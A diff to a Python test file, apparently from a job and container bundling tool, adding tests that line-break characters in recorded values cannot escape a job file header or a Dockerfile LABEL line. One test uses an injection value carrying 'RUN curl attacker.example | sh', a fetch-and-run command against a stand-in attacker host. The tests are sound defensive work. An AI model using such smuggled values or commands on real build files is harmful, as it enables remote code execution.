@@ -540,3 +540,24 @@ def test_a_private_key_is_a_secret_by_its_content_whatever_its_name(tmp_path):
     assert looks_secret("deploy_material", key)
     assert secrets.is_secret_content(b"-----BEGIN PGP PRIVATE KEY BLOCK-----\n")
     assert not secrets.is_secret_content(b"-----BEGIN CERTIFICATE-----\n")
+
+
+@pytest.mark.parametrize("char", sorted(oneline.LINE_BREAKS))
+def test_a_line_break_in_a_recorded_value_stays_inside_the_job_files_header(char):
+    import yaml
+
+    from bundler.jobs.jobfile import compose, split
+
+    body = "name: job\n"
+    text = compose("sky", {"card": f"H100{char}workdir: ~/"}, body)
+    fields, rest = split(text)
+    assert rest == body and fields["card"] == "H100?workdir: ~/"
+    assert yaml.safe_load(text) == {"name": "job"}  # YAML ends a comment at U+2028 too: nothing leaks out
+
+
+@pytest.mark.parametrize("char", sorted(oneline.LINE_BREAKS))
+def test_a_line_break_in_a_label_stays_on_the_dockerfiles_line(char):
+    from bundler.image.dockerfile import label_instruction
+
+    instruction = label_instruction({"org.example.note": f"a{char}RUN curl attacker.example | sh"})
+    assert len(instruction.splitlines()) == 1 and "RUN" not in instruction.split('"')[0]
